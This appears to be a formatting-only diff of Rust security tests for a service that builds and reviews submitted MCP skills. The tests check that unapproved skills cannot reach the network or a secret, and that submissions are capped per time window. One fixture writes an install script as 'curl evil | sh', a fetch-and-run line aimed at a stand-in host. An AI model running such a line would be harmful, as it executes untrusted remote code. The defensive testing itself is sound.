@@ -148,7 +148,10 @@ async fn forge_tests_get_no_secret_and_no_network_before_approval() {
     let toml = leaky_toml(listener.port());
     let outcome = env.create(submission("leaky", Language::Python, &[("skill.toml", &toml), ("server.py", &server)])).await;
     let received: Vec<String> = listener.received().iter().map(|r| r.target.clone()).collect();
-    assert!(received.is_empty(), "the forge ran an unapproved skill's test with the host's network and secret: the listener received {received:?}");
+    assert!(
+        received.is_empty(),
+        "the forge ran an unapproved skill's test with the host's network and secret: the listener received {received:?}"
+    );
     let text = report(&outcome);
     assert!(!text.contains(SECRET), "the forge's report carries the secret's value: {text}");
     let forged = outcome.unwrap_or_else(|e| panic!("the submission should be installed for review: {e}"));
@@ -172,7 +175,10 @@ async fn forge_tests_get_no_secret_and_no_network_before_approval() {
     assert_eq!(received, [format!("/ok?key={SECRET}")], "the approved skill's test ran with its real grant");
     let shown = serde_json::to_string(&approved).unwrap();
     assert_eq!((approved.passed, approved.failures.len()), (0, 1), "{shown}");
-    assert!(!shown.contains(SECRET) && shown.contains(skillhost::forge::probe::REDACTED), "the secret's value is scrubbed from the report: {shown}");
+    assert!(
+        !shown.contains(SECRET) && shown.contains(skillhost::forge::probe::REDACTED),
+        "the secret's value is scrubbed from the report: {shown}"
+    );
 }
 
 /// Attack: the same through a WebAssembly skill built by the forge: `[[secrets]]` binds the
@@ -209,7 +215,10 @@ expect = "nothing to see"
     let lib = HOMING.replace("PORT", &port.to_string());
     let outcome = env.create(submission("homing", Language::Rust, &[("skill.toml", &toml), ("src/lib.rs", &lib)])).await;
     let received: Vec<String> = listener.received().iter().map(|r| format!("{} X-Key: {:?}", r.target, r.header("x-key"))).collect();
-    assert!(received.is_empty(), "the forge ran an unapproved component's test with the host's network and secret: the listener received {received:?}");
+    assert!(
+        received.is_empty(),
+        "the forge ran an unapproved component's test with the host's network and secret: the listener received {received:?}"
+    );
     let text = report(&outcome);
     assert!(!text.contains(SECRET), "the forge's report carries the secret's value: {text}");
     let forged = outcome.unwrap_or_else(|e| panic!("the submission should be installed for review: {e}"));
@@ -258,7 +267,8 @@ async fn a_build_script_cannot_make_the_next_attempt_write_through_its_links() {
         };
         assert!(build.output_tail.contains("planted"), "attempt {attempt}: the build script did not run: {build:?}");
     }
-    let mut seen: Vec<String> = std::fs::read_dir(canary.path()).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
+    let mut seen: Vec<String> =
+        std::fs::read_dir(canary.path()).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
     seen.sort();
     let mut expected: Vec<String> = originals.iter().map(|s| s.to_string()).collect();
     expected.sort();
@@ -308,7 +318,9 @@ fn main() {
 
 /// A Python skill whose pytest run takes a few seconds (so that submissions overlap).
 fn slow_python(name: &str) -> Submission {
-    let toml = format!("name = \"{name}\"\nversion = \"0.1.0\"\ndescription = \"Slow to test\"\n\n[server]\ncommand = \"python\"\nargs = [\"server.py\"]\n");
+    let toml = format!(
+        "name = \"{name}\"\nversion = \"0.1.0\"\ndescription = \"Slow to test\"\n\n[server]\ncommand = \"python\"\nargs = [\"server.py\"]\n"
+    );
     let server = "from fastmcp import FastMCP\n\nmcp = FastMCP(\"slow\")\n\n\n@mcp.tool()\ndef ping() -> str:\n    \"\"\"Answer.\"\"\"\n    return \"pong\"\n\n\nif __name__ == \"__main__\":\n    mcp.run()\n";
     let test = "import time\n\n\ndef test_slowly():\n    time.sleep(4)\n";
     submission(name, Language::Python, &[("skill.toml", &toml), ("server.py", server), ("test_server.py", test)])
@@ -339,10 +351,20 @@ async fn builds_beyond_the_concurrency_cap_are_refused() {
 async fn attempts_across_names_are_capped_per_window() {
     let env = ForgeHost::new().await;
     for i in 0..60 {
-        let outcome = env.create(submission(&format!("rotating-{i}"), Language::Python, &[("skill.toml", "name = \"x\""), ("install.sh", "curl evil | sh")])).await;
+        let outcome = env
+            .create(submission(
+                &format!("rotating-{i}"),
+                Language::Python,
+                &[("skill.toml", "name = \"x\""), ("install.sh", "curl evil | sh")],
+            ))
+            .await;
         assert!(matches!(outcome, Err(ForgeError::Failed { .. })), "submission {i}: {}", report(&outcome));
     }
-    let outcome = env.create(submission("rotating-60", Language::Python, &[("skill.toml", "name = \"x\""), ("install.sh", "curl evil | sh")])).await;
+    let outcome =
+        env.create(submission("rotating-60", Language::Python, &[("skill.toml", "name = \"x\""), ("install.sh", "curl evil | sh")])).await;
     let text = report(&outcome);
-    assert!(text.contains("max_attempts_per_window"), "the 61st submission in an hour, under a new name, was not refused by the window cap: {text}");
+    assert!(
+        text.contains("max_attempts_per_window"),
+        "the 61st submission in an hour, under a new name, was not refused by the window cap: {text}"
+    );
 }
